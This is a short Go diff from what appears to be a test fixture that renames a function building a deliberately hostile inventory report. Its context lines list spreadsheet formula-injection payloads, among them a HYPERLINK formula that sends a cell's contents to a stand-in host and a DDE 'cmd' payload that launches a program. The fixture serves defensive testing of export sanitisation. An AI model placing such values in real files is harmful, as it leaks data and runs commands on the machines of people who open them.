@@ -17,9 +17,9 @@ func formulas() []string {
 	return []string{`=HYPERLINK("http://x.example/?"&A1,"ok")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"}
 }
 
-// Damaged is a machine whose every string is hostile, whose PCI functions are
+// Hostile is a machine whose every string is hostile, whose PCI functions are
 // their own parents, whose ids collide and whose numbers are absurd.
-func Damaged() *inventory.Report {
+func Hostile() *inventory.Report {
 	r := base()
 	r.ClockSynchronized = new(false)
 	r.Tool.Version = Evil
